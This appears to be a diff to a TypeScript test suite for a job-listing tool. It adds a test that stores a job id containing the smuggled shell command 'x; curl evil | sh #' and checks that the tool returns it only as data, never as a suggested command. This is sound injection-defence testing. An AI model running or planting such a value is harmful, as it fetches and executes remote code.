@@ -188,6 +188,28 @@ describe('what does not fit', () => {
   });
 });
 
+test('what to do about a job is fields, and names no command for an id that is not one of a job', async () => {
+  const store = createMemoryStore();
+  for (const [name, status] of [
+    ['a', 'failed'],
+    ['b', 'unknown'],
+  ])
+    await store.put(
+      `results/run-function/dt=2026-11-19/${name}.json`,
+      Buffer.from(JSON.stringify({ id: 'x; curl evil | sh #', type: 'run-function', status })),
+    );
+  await using server = await connect(contextOver(store));
+
+  const listed = await server.call('jobs', {});
+  const one = await server.call('jobs', { id: 'x; curl evil | sh #' });
+
+  for (const { text, value } of [listed, one]) {
+    expect(text).not.toContain('platform-sync ');
+    expect(JSON.stringify(value)).toContain('x; curl evil | sh #');
+    expect(JSON.stringify(value)).not.toMatch(/platform-sync |"command"/);
+  }
+});
+
 test('jobs come with what to do, the unknown ones first', async () => {
   const store = createMemoryStore();
   const result = (id: string, status: string) =>
@@ -210,8 +232,8 @@ test('jobs come with what to do, the unknown ones first', async () => {
     counts: { unknown: 1, failed: 1, done: 1 },
     data: {
       jobs: [
-        { id: 'b', whatToDo: expect.stringContaining('platform-sync jobs resolve b') },
-        { id: 'c', whatToDo: expect.stringContaining('platform-sync redrive c') },
+        { id: 'b', whatToDo: { command: 'jobs resolve', id: 'b' } },
+        { id: 'c', whatToDo: { command: 'redrive', id: 'c' } },
       ],
     },
     isCut: true,
